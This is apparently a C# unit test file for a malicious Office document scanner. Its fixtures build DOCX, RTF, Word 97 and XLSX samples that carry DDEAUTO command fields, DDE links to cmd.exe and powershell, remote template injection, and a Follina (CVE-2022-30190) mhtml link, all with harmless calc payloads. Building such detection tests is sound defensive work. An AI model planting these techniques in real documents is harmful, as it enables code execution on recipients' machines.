using System.Text;
using Crible.Model;
using Crible.Scanners.Office.Ole;

namespace Crible.Tests.Scanners.Office.Links;

public sealed class OfficeLinkTests
{
    private const string ContentTypes = """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""";

    private const string PackageRels = """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>""";

    private const string PlainDocument = """<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>""";

    private static byte[] Docx(string document, string? documentRels = null, string? settingsRels = null)
    {
        var members = new List<(string, byte[])>
        {
            ("[Content_Types].xml", Encoding.UTF8.GetBytes(ContentTypes)),
            ("_rels/.rels", Encoding.UTF8.GetBytes(PackageRels)),
            ("word/document.xml", Encoding.UTF8.GetBytes(document)),
        };
        if (documentRels is not null)
        {
            members.Add(("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(documentRels)));
        }

        if (settingsRels is not null)
        {
            members.Add(("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes(settingsRels)));
        }

        return TestZip.Create([.. members]);
    }

    private static string Rels(string type, string target) =>
        $"""<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" Target="{target}" TargetMode="External"/></Relationships>""";

    [Fact]
    public async Task A_DDEAUTO_field_split_over_runs_in_a_docx_is_malicious_with_its_command()
    {
        const string Document = """<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k powershell -c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>""";

        var report = await TestEngine.Default.AnalyseAsync(Docx(Document), "letter.docx");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var (node, finding) = Assert.Single(report.AllFindings, f => f.Finding.Id == "ddeauto-field");
        Assert.Equal("word/document.xml", node.Name);
        Assert.Contains("cmd.exe", finding.Evidence);
        Assert.Equal(["T1559.002"], finding.Attack);
        Assert.Contains(node.Iocs, i => i.Kind == IndicatorKind.Command && i.Value.Contains("powershell -c calc", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_remote_attached_template_is_template_injection()
    {
        var report = await TestEngine.Default.AnalyseAsync(Docx(PlainDocument, settingsRels: Rels("attachedTemplate", "http://templates.example.net/t.dotm")), "report.docx");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var (node, finding) = Assert.Single(report.AllFindings, f => f.Finding.Id == "remote-template");
        Assert.Equal(["T1221"], finding.Attack);
        Assert.Contains("http://templates.example.net/t.dotm", finding.Evidence);
        Assert.Contains(node.Iocs, i => i.Kind == IndicatorKind.Domain && i.Value == "templates.example.net");
    }

    [Fact]
    public async Task A_local_attached_template_is_not_a_finding()
    {
        var report = await TestEngine.Default.AnalyseAsync(Docx(PlainDocument, settingsRels: Rels("attachedTemplate", "file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")), "report.docx");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Scanner == "ooxml-links");
    }

    [Fact]
    public async Task An_external_ole_object_through_mhtml_is_the_Follina_exploit()
    {
        var report = await TestEngine.Default.AnalyseAsync(Docx(PlainDocument, documentRels: Rels("oleObject", "mhtml:http://198.51.100.7/index.html!x-usc:http://198.51.100.7/index.html")), "follina.docx");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "ooxml-protocol-handler").Finding;
        Assert.Contains("CVE-2022-30190", finding.Title);
    }

    [Fact]
    public async Task A_DDE_link_to_cmd_in_an_xlsx_external_link_is_malicious()
    {
        const string Link = """<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>""";
        var workbook = TestZip.Create(
            ("[Content_Types].xml", Encoding.UTF8.GetBytes(ContentTypes.Replace("/word/document.xml", "/xl/workbook.xml", StringComparison.Ordinal))),
            ("xl/workbook.xml", Encoding.UTF8.GetBytes("""<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>""")),
            ("xl/externalLinks/externalLink1.xml", Encoding.UTF8.GetBytes(Link)));

        var report = await TestEngine.Default.AnalyseAsync(workbook, "book.xlsx");

        var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "dde-link").Finding;
        Assert.Equal(Severity.Malicious, finding.Severity);
        Assert.Contains("ddeService=\"cmd\" ddeTopic=\"/c calc.exe\"", finding.Evidence);
    }

    [Fact]
    public async Task A_DDEAUTO_field_hidden_with_rtf_escapes_is_found()
    {
        const string Rtf = @"{\rtf1\ansi{\field{\*\fldinst {\rtlch DD}{E\'41UTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k calc.exe""}}{\fldrslt }}}";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(Rtf), "memo.rtf");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "ddeauto-field").Finding;
        Assert.Contains("cmd.exe", finding.Evidence);
    }

    [Fact]
    public async Task A_DDEAUTO_field_in_the_text_of_a_Word_97_document_is_found()
    {
        var text = Encoding.Latin1.GetBytes("Dear customer,\r\u0013 DDEAUTO \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -NoP -c calc\" \"x\"\u0014\u0015\r");
        var wordDocument = new byte[1536 + text.Length];
        wordDocument[0] = 0xEC;
        wordDocument[1] = 0xA5;
        text.CopyTo(wordDocument, 1536);
        var builder = new CompoundFileBuilder();
        builder.AddStream("WordDocument", wordDocument);
        builder.AddStream("1Table", new byte[512]);

        var report = await TestEngine.Default.AnalyseAsync(builder.ToArray(), "order.doc");

        Assert.Equal("doc", report.Nodes[0].Kind);
        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "ddeauto-field");
        Assert.Equal(Severity.Malicious, finding.Severity);
        Assert.Contains("powershell.exe -NoP -c calc", finding.Evidence);
    }
}
